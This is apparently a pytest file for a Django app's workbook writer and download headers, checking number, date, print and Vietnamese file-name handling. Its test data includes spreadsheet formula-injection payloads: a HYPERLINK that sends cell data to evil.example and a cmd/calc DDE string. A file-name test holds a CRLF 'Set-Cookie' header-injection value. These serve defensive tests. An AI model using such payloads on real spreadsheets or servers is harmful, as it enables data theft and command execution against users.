"""The one way thidua writes a workbook (core/spreadsheets.py) and hands out a file
(core/downloads.py): text stays text, figures stay exact, sheets print, names survive."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from thidua.core import spreadsheets as sheets
from thidua.core.downloads import ascii_name, content_disposition, download, file_name

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
    "#N/A",
]


def _xml(data: bytes) -> dict[str, str]:
    """The worksheets' XML of a saved workbook, by part name."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}


def _cell_xml(data: bytes, coordinate: str, part: str = "xl/worksheets/sheet1.xml") -> str:
    xml = _xml(data)[part]
    found = re.search(rf'<c r="{coordinate}"[^>]*>(.*?)</c>', xml)
    assert found, f"no cell {coordinate}"
    return found.group(1)


def _book(rows, columns=None, **kwargs) -> bytes:
    book = sheets.Book()
    sheet = book.sheet(
        "Sheet",
        titles=["Title"],
        columns=columns or [sheets.Column("Text"), sheets.Column("Figure", "number")],
        **kwargs,
    )
    for row in rows:
        sheet.row(row)
    return book.save()


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    data = _book([[text, 1]])
    ws = load_workbook(io.BytesIO(data)).active
    cell = ws["A4"]
    assert cell.value == text  # the text itself, unchanged
    assert cell.data_type == "s"
    xml = _xml(data)["xl/worksheets/sheet1.xml"]
    assert re.search(r'<c r="A4"[^>]*t="inlineStr"', xml)  # a string, stored as such
    assert "<f>" not in xml and "<f " not in xml
    if text.lstrip(" ")[0] in "=+-@\t":
        assert cell.quotePrefix  # editing it in Excel or LibreOffice keeps it text


def test_openpyxl_alone_would_have_written_a_formula():
    """The bug this module closes: a plain openpyxl write of user text is a live formula."""
    wb = Workbook()
    wb.active["A1"] = '=HYPERLINK("https://evil.example","x")'
    out = io.BytesIO()
    wb.save(out)
    assert "<f>HYPERLINK" in _xml(out.getvalue())["xl/worksheets/sheet1.xml"]


def test_characters_a_sheet_cannot_hold_are_dropped_not_an_error():
    ws = load_workbook(io.BytesIO(_book([["bad\x0bchar\x01s", None]]))).active
    assert ws["A4"].value == "badchars"


def test_a_decimal_is_written_exactly_and_a_whole_one_as_an_integer():
    book = sheets.Book()
    sheet = book.sheet("S", columns=[sheets.Column("Figure", "number")])
    sheet.row([Decimal("84.0800")])
    sheet.row([Decimal("11300.0000")])
    sheet.row([Decimal("1234567.8901")])
    sheet.row([0.1 + 0.2])  # a float from a JSON snapshot: the decimal it prints as
    assert isinstance(sheet.ws["A2"].value, Decimal) and sheet.ws["A2"].value == Decimal("84.08")
    assert type(sheet.ws["A3"].value) is int and sheet.ws["A3"].value == 11300
    assert sheet.ws["A5"].value == Decimal("0.30000000000000004")
    data = book.save()
    assert _cell_xml(data, "A2") == "<v>84.08</v>"
    assert _cell_xml(data, "A3") == "<v>11300</v>"
    assert _cell_xml(data, "A4") == "<v>1234567.8901</v>"


def test_figures_are_grouped_by_thousands_with_the_decimals_they_have():
    ws = load_workbook(
        io.BytesIO(
            _book(
                [[None, 11300], [None, Decimal("2.5")], [None, Decimal("1000000.25")], [None, 7]],
            )
        )
    ).active
    assert [ws[f"B{r}"].number_format for r in range(4, 8)] == [
        "#,##0",
        "#,##0.0",
        "#,##0.00",
        "#,##0",
    ]
    assert ws["B5"].value == 2.5


def test_years_and_ordinal_numbers_are_plain_and_percentages_read_as_such():
    columns = [
        sheets.Column("No.", "plain"),
        sheets.Column("Year", "plain"),
        sheets.Column("Done", "percent"),
    ]
    ws = load_workbook(io.BytesIO(_book([[1, 2024, 40]], columns=columns))).active
    assert [c.number_format for c in ws[4]] == ["0", "0", '0"%"']
    assert [c.value for c in ws[4]] == [1, 2024, 40]


def test_dates_are_dates_shown_dd_mm_yyyy():
    moment = timezone.make_aware(dt.datetime(2023, 12, 31, 23, 30), dt.UTC)
    columns = [sheets.Column("Day", "date"), sheets.Column("Moment", "date")]
    ws = load_workbook(io.BytesIO(_book([[dt.date(2023, 12, 5), moment]], columns=columns))).active
    assert ws["A4"].is_date and ws["A4"].value.date() == dt.date(2023, 12, 5)
    assert ws["A4"].number_format == "dd/mm/yyyy"
    # An aware moment is the day it is in Vietnam (UTC+7): already 1 January.
    assert ws["B4"].value.date() == dt.date(2024, 1, 1)
    assert ws["B4"].number_format == "dd/mm/yyyy"


def test_a_year_where_a_date_is_missing_stays_a_plain_year():
    columns = [sheets.Column("Issued on", "date")]
    ws = load_workbook(io.BytesIO(_book([[2019]], columns=columns))).active
    assert ws["A4"].value == 2019 and ws["A4"].number_format == "0"


def test_the_header_row_is_frozen_repeated_on_each_page_and_printed_one_page_wide():
    ws = load_workbook(io.BytesIO(_book([["a", 1]]))).active
    assert ws["A3"].value == "Text" and ws["A3"].font.b  # title, blank row, header
    assert ws.freeze_panes == "A4"
    assert ws.print_title_rows == "$3:$3"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.paperSize == 9  # A4
    assert ws.page_setup.orientation == "portrait"


def test_a_table_wider_than_a_portrait_page_prints_landscape():
    columns = [sheets.Column(f"C{i}", "number", width=14) for i in range(9)]
    ws = load_workbook(io.BytesIO(_book([list(range(9))], columns=columns))).active
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1


def test_the_first_columns_may_stay_in_view_and_hidden_columns_do_not_count():
    columns = [
        sheets.Column("Code", hidden=True, width=200),
        sheets.Column("Unit"),
        sheets.Column("Figure", "number"),
    ]
    ws = load_workbook(
        io.BytesIO(_book([["X1", "Xã Lũng Cú", 3]], columns=columns, freeze_columns=2))
    ).active
    assert ws.freeze_panes == "C4"
    assert ws.column_dimensions["A"].hidden
    assert ws.page_setup.orientation == "portrait"  # the hidden column is not printed
    assert ws["B1"].value == "Title"  # titles stand over the visible columns


def test_long_text_wraps_in_a_sized_column_and_its_row_is_tall_enough():
    long = "Tuyên truyền thành tựu bảo đảm quyền con người " * 6
    ws = load_workbook(io.BytesIO(_book([[long, 1], ["short", 2]]))).active
    assert ws["A4"].alignment.wrap_text
    assert ws.column_dimensions["A"].width == sheets.MAX_WIDTH
    assert ws.row_dimensions[4].height >= 4 * sheets.LINE_HEIGHT
    assert ws.row_dimensions[5].height is None  # one line: the default height
    assert ws.column_dimensions["B"].width < 10


def test_the_totals_row_adds_up_exactly():
    book = sheets.Book()
    sheet = book.sheet(
        "S",
        columns=[
            sheets.Column("Name"),
            sheets.Column("Count", "number", total=True),
            sheets.Column("Rate", "number"),
        ],
    )
    for _ in range(3):
        sheet.row(["x", Decimal("0.1"), Decimal("50")])
    r = sheet.totals("Total")
    assert [c.value for c in sheet.ws[r]] == ["Total", Decimal("0.3"), None]
    assert all(c.font.b for c in sheet.ws[r])
    data = book.save()
    assert _cell_xml(data, f"B{r}") == "<v>0.3</v>"


def test_a_sheet_name_is_valid_unique_and_keeps_its_language():
    taken: set[str] = set()
    assert sheets.sheet_title("Báo cáo", taken) == "Báo cáo"
    assert sheets.sheet_title("Báo cáo", taken) == "Báo cáo 2"
    assert sheets.sheet_title("Xã A/B: [thôn]?", taken) == "Xã A B   thôn"
    long = sheets.sheet_title("Ủy ban nhân dân xã Lũng Cú, huyện Đồng Văn", taken)
    assert len(long) == 31
    assert sheets.sheet_title("_thidua", taken, reserved=["_thidua"]) == "_thidua 2"


def test_the_hidden_sheet_holds_plain_cells_out_of_sight():
    book = sheets.Book()
    book.sheet("Visible", columns=[sheets.Column("A")])
    book.hidden_sheet("_meta", [["form", "=x"], ["period", 12]])
    wb = load_workbook(io.BytesIO(book.save()))
    assert wb["_meta"].sheet_state == "hidden"
    assert wb["_meta"]["B1"].value == "=x" and wb["_meta"]["B1"].data_type == "s"
    assert wb["_meta"]["B2"].value == 12


# ---------------------------------------------------------------- file names


def test_a_vietnamese_file_name_is_sent_both_encoded_and_as_an_ascii_fallback():
    header = content_disposition("902/QĐ-MTTQ.xlsx")
    assert header == (
        "attachment; filename=\"902-QD-MTTQ.xlsx\"; filename*=UTF-8''902-Q%C4%90-MTTQ.xlsx"
    )
    header = content_disposition("Tổng hợp - Tỉnh Hà Giang.docx")
    assert 'filename="Tong hop - Tinh Ha Giang.docx"' in header
    assert "filename*=UTF-8''T%E1%BB%95ng%20h%E1%BB%A3p%20-%20T%E1%BB%89nh%20H%C3%A0" in header
    header.encode("ascii")  # an HTTP header: nothing for Django to MIME-encode


def test_an_ascii_file_name_is_sent_as_it_is():
    assert content_disposition("report-2024.xlsx") == 'attachment; filename="report-2024.xlsx"'


def test_a_file_name_never_breaks_the_header_nor_a_file_system():
    assert file_name('a"b\r\nSet-Cookie: x=1/..\\c:d.xlsx') == "a-b-Set-Cookie- x=1-..-c-d.xlsx"
    assert file_name("") == "file" and file_name("///.xlsx") == "file.xlsx"
    assert len(file_name("x" * 500 + ".docx")) == 150 + 5
    header = content_disposition('=HYPERLINK("x")\r\n.xlsx')
    assert "\r" not in header and "\n" not in header
    assert header.split("; ")[1].count('"') == 2
    assert ascii_name("Đồng Văn") == "Dong Van"


def test_a_download_carries_its_type_and_name():
    response = download(b"x", name="Xã Lũng Cú.xlsx", content_type=sheets.XLSX)
    assert response["Content-Type"] == sheets.XLSX
    assert response["Content-Disposition"].endswith(
        "filename*=UTF-8''X%C3%A3%20L%C5%A9ng%20C%C3%BA.xlsx"
    )
